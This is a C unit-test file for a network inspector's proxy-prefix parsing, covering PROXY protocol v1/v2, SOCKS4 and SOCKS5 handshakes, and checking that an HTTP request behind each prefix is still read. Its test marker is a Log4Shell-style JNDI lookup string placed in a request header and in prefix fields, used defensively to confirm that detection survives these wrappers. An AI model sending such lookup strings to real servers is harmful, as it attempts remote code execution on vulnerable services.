/* SPDX-License-Identifier: GPL-2.0-or-later */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdlib.h>

#include <cmocka.h>

#include "base/count.h"
#include "inspect/inspector.h"
#include "support/conversation.h"

#define LOOKUP    "${jndi:ldap://h/a}"
#define REQUEST   "GET /x HTTP/1.1\r\nHost: a\r\nX-Api: " LOOKUP "\r\n\r\n"
#define RESPONSE  "HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nok"
#define V2_START  "\r\n\r\n\0\r\nQUIT\n"
#define PREFIX(s) BYTES_LIT(s)

/* Each way in front of an HTTP request: what client and server say before it. */
static const struct {
    struct bytes client, server;
} prefixes[] = {
    {PREFIX("PROXY TCP4 192.0.2.1 198.51.100.2 40000 443\r\n"), PREFIX("")},
    {PREFIX("PROXY TCP6 2001:db8::1 2001:db8::2 40000 443\r\n"), PREFIX("")},
    {PREFIX("PROXY UNKNOWN\r\n"), PREFIX("")},
    {PREFIX(V2_START "\x21\x11\0\x0c\xc0\0\2\1\xc6\x33\x64\2\x9c\x40\1\xbb"), PREFIX("")},
    {PREFIX(V2_START "\x20\0\0\0"), PREFIX("")},
    {PREFIX(V2_START "\x21\x11\0\x14\xc0\0\2\1\xc6\x33\x64\2\x9c\x40\1\xbb\2\0\5hello"), PREFIX("")},
    {PREFIX("\5\1\0\5\1\0\1\xc0\0\2\1\0\x50"), PREFIX("\5\0\5\0\0\1\0\0\0\0\0\0")},
    {PREFIX("\5\2\0\2\1\4user\4pass\5\1\0\3\7foo.bar\0\x50"), PREFIX("\5\2\1\0\5\0\0\1\0\0\0\0\0\0")},
    {PREFIX("\5\1\0\5\1\0\4"
            "0123456789abcdef\0\x50"),
     PREFIX("\5\0\5\0\0\3\4host\0\0")},
    {PREFIX("\4\1\0\x50\xc0\0\2\1user\0"), PREFIX("\0\x5a\0\0\0\0\0\0")},
    {PREFIX("\4\1\0\x50\0\0\0\1\0host.example\0"), PREFIX("\0\x5a\0\0\0\0\0\0")},
};

#define N_PREFIXES (sizeof prefixes / sizeof *prefixes)

static void behind_each_prefix_the_protocol_begins(void **state)
{
    (void)state;
    for (size_t i = 0; i < N_PREFIXES; i++) {
        struct buf client = buf_within(4096), server = buf_within(4096);
        struct said said[2] = {{.side = 0}, {.side = 1}};
        struct config config = conversation_config();
        struct conversation whole = {.said = said, .n = 2, .proto = PROTO_TCP, .parts = true};
        struct transcript t;

        buf_add(&client, prefixes[i].client);
        buf_add_str(&client, REQUEST);
        buf_add(&server, prefixes[i].server);
        buf_add_str(&server, RESPONSE);
        said[0].data = buf_bytes(&client);
        said[1].data = buf_bytes(&server);
        count_reset();
        conversation_play(&whole, &config, &t);
        if (!transcript_has(&t, "X-Api=" LOOKUP "\n") && !transcript_has(&t, "X-Api: " LOOKUP "\n"))
            fail_msg("prefix %zu: the request is not read:\n%.*s", i, (int)t.text.len,
                     (const char *)t.text.p);
        if (!transcript_has(&t, "http.response_body #1 ok\n"))
            fail_msg("prefix %zu: the response is not read:\n%.*s", i, (int)t.text.len,
                     (const char *)t.text.p);
        assert_int_equal(counters[COUNT_INSPECT_PROXY], 1);
        assert_int_equal(counters[COUNT_INSPECT_GAVE_UP], 0);
        transcript_drop(&t);
        conversation_assert_same_in_pieces(said, 2, &config);
        buf_drop(&client);
        buf_drop(&server);
    }
}

/* The steps of a real client, which waits for each answer. */
static void a_client_that_waits(void **state)
{
    const struct said said[] = {
        {.side = 0, .data = BYTES_LIT("\5\1\0")},
        {.side = 1, .data = BYTES_LIT("\5\0")},
        {.side = 0, .data = BYTES_LIT("\5\1\0\3\7foo.bar\0\x50")},
        {.side = 1, .data = BYTES_LIT("\5\0\0\1\0\0\0\0\0\0")},
        {.side = 0, .data = BYTES_LIT(REQUEST)},
        {.side = 1, .data = BYTES_LIT(RESPONSE)},
    };
    struct transcript t = conversation_of(PROTO_TCP, said, 6);

    (void)state;
    assert_true(transcript_has(&t, LOOKUP));
    assert_true(transcript_has(&t, "http.response_body #1 ok\n"));
    transcript_drop(&t);
}

/* Names and texts in the prefix are text. */
static void the_prefix_is_read_as_well(void **state)
{
    static const struct bytes rows[] = {
        PREFIX("PROXY UNKNOWN " LOOKUP "\r\nGET / HTTP/1.1\r\n\r\n"),
        PREFIX("\4\1\0\x50\0\0\0\1" LOOKUP "\0host\0GET / HTTP/1.1\r\n\r\n"),
        PREFIX("\5\1\0\5\1\0\3\x12" LOOKUP "\0\x50GET / HTTP/1.1\r\n\r\n"),
        PREFIX(V2_START "\x21\x00\0\x15\2\0\x12" LOOKUP "GET / HTTP/1.1\r\n\r\n"),
    };

    (void)state;
    for (size_t i = 0; i < sizeof rows / sizeof *rows; i++) {
        const struct said said = {.side = 0, .data = rows[i]};
        struct transcript t = conversation_of(PROTO_TCP, &said, 1);

        if (!transcript_raw_has(&t, 0, LOOKUP))
            fail_msg("row %zu: the prefix is not given", i);
        assert_true(transcript_has(&t, "HTTP/1.1"));
        transcript_drop(&t);
    }
}

static void nothing_hides_behind_nonsense(void **state)
{
    (void)state;
    for (size_t i = 0; i < N_PREFIXES; i++)
        conversation_assert_nothing_hides(prefixes[i].client);
    /* The server's part, too. */
    for (size_t cut = 0; cut < 6; cut++) {
        struct buf server = buf_within(256);
        struct said said[2] = {{.side = 0, .data = BYTES_LIT("\5\1\0")}, {.side = 1}};
        struct transcript t;

        buf_add(&server, bytes_slice(BYTES_LIT("\5\0\5\0\0\1"), 0, cut));
        buf_add_str(&server, "\xff nonsense " LOOKUP);
        said[1].data = buf_bytes(&server);
        t = conversation_of(PROTO_TCP, said, 2);
        assert_true(transcript_raw_has(&t, 1, LOOKUP) || transcript_has(&t, LOOKUP));
        transcript_drop(&t);
        buf_drop(&server);
    }
}

static void others_are_not_taken_for_it(void **state)
{
    static const struct bytes rows[] = {
        PREFIX("PROXY /a HTTP/1.1\r\n\r\n"),
        PREFIX("PROXY"),
        PREFIX("\5\0\x0b\3\x10\0\0\0\x48\0\0\0"),
        PREFIX("\5\1\x0b\3"),
        PREFIX("\4\3\0\x50"),
        PREFIX("\r\n\r\nGET / HTTP/1.1\r\n"),
        PREFIX("\4\1\0"),
        PREFIX("\5"),
    };

    (void)state;
    for (size_t i = 0; i < sizeof rows / sizeof *rows; i++)
        if (proxy_inspector.recognise(rows[i], PROTO_TCP, true) != RECOGNISE_NO)
            fail_msg("row %zu is taken for a prefix", i);
    assert_int_equal(proxy_inspector.recognise(prefixes[0].client, PROTO_UDP, true), RECOGNISE_NO);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(behind_each_prefix_the_protocol_begins),
        cmocka_unit_test(a_client_that_waits),
        cmocka_unit_test(the_prefix_is_read_as_well),
        cmocka_unit_test(nothing_hides_behind_nonsense),
        cmocka_unit_test(others_are_not_taken_for_it),
    };

    return cmocka_run_group_tests(tests, NULL, NULL);
}
